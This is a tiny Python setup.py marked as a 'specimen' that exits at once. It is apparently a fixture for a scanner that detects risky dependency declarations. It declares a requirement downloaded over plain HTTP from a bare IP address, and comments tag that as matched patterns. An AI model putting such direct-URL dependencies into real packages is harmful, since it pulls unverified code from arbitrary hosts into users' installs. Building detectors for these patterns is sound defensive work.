raise SystemExit("specimen: not to be run")
from setuptools import setup
setup(
    name="specimen",
    install_requires=["helper @ http://192.0.2.8/helper-1.0.tar.gz"],  # match: direct-requirement  # match: bare-address
)
